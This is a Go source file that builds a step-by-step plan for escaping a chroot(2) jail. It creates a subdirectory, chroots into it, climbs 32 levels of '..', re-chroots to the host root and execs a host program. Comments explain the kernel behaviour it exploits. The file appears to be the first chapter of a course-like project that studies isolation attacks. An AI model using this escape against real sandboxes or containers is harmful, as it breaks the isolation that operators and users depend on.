// Package escape is the way out of a root that chroot(2) has made, as a plan:
// the attack of chapter 1, which the chapters after it try again.
//
// chroot(2) changes where absolute paths begin and leaves the working directory
// where it is; the way out is made of no more than that. What it takes is
// CAP_SYS_CHROOT, which root in such a root has, and nothing that the host has
// left behind.
package escape

import (
	"strings"

	"golang.org/x/sys/unix"

	"skiff.example/stage01-chroot/plan"
)

// levels is how many directories up the way out goes. Above the host's "/"
// there is nothing: ".." leads to "/" again, so too many do no harm.
const levels = 32

// Plan is the plan of a process that leaves its root and becomes the program
// argv of the host, with the environment envp. argv[0] is a path.
//
// The process makes a directory its root and stays outside of it. The kernel
// stops ".." at the root, but it notices the root only when it comes past it
// (follow_dotdot, fs/namei.c). This process is above already: nothing stops it
// before the top of its mounts, which is the host's "/" unless it has mounts of
// its own.
func Plan(argv, envp []string) *plan.Plan {
	const deeper = "way-out"
	p := &plan.Plan{}
	p.Section(1, "a root below the working directory")
	p.Add(
		plan.Mkdirat(plan.CWD, deeper, 0o700).Accept(unix.EEXIST),
		plan.Chroot(deeper),
	)
	p.Section(1, "from there, up and out")
	p.Add(
		plan.Chdir(strings.TrimSuffix(strings.Repeat("../", levels), "/")),
		plan.Chroot("."),
	)
	p.Section(1, "a program of the host")
	p.Add(plan.Execve(argv[0], argv, envp))
	return p
}
